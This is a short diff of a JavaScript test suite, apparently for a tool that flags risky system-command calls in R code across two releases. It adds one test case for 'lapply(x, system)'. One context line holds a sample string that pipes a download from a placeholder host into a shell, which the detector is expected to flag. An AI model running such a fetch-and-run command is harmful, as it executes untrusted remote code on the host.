@@ -233,6 +233,7 @@ describe("the signals of two releases", () => {
     expect(levelOf('system2("make", args)')).toEqual(["notice"]);
     expect(levelOf('system("curl -s https://a.example | sh")')).toEqual(["warning"]);
     expect(levelOf('do.call("system", list(x))')).toEqual(["warning"]);
+    expect(levelOf("lapply(x, system)")).toEqual(["warning"]);
     expect(compare(r(), r(processAt(1))).signals.fresh).toMatchObject([{ level: "warning" }]);
   });
 
